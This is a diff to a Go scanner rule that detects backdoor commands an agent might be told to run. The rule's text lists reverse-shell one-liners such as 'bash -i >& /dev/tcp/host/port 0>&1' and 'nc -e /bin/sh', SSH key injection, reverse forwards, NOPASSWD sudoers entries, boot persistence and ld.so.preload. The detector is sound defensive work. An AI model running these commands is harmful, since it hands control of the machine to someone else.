@@ -12,8 +12,14 @@ var securityBackdoor = securityRule(&Rule{
 		"reports, wherever security/remote-exec reads commands (code blocks, inline code, shipped scripts; also disguised), a " +
 		"command that opens that machine to someone else: a reverse shell (`bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`, " +
 		"`ncat -c cmd.exe`, `socat … exec:`, a FIFO piped into nc, a Python socket handed to a shell) and a key written into " +
-		"`~/.ssh/authorized_keys` (`>>`, `tee -a`). A port check (`echo > /dev/tcp/localhost/5432`, `nc -z`) and reading the file " +
-		"are not reported. No manual needs an agent to run one: delete the command.",
+		"`~/.ssh/authorized_keys` (`>>`, `tee -a`); a remote login forwarded to another host (`ssh -R 8080:localhost:22`, RDP and " +
+		"VNC ports, a reverse SOCKS proxy `ssh -R 1080`, `RemoteForward`), so that whoever reaches that host can log in here; root " +
+		"without a password (`NOPASSWD` written into sudoers); a download installed where the system runs it at every boot, login " +
+		"or program start (a systemd unit, a cron file, a shell profile, sudoers, a launch agent); and a library written into " +
+		"`/etc/ld.so.preload`, which every program then loads. A port check (`echo > /dev/tcp/localhost/5432`, `nc -z`), reading " +
+		"those files, a local forward (`ssh -L`), a dev server shared over `ssh -R` and a PATH line appended to `.bashrc` are not " +
+		"reported. A command that is both (`… | sudo tee /etc/sudoers.d/x`) is reported here, not as security/remote-exec. No " +
+		"manual needs an agent to run one: delete the command.",
 }, "delete the command", func(t *scanText) []scan.Hit {
 	return execHits(t, true)
 })
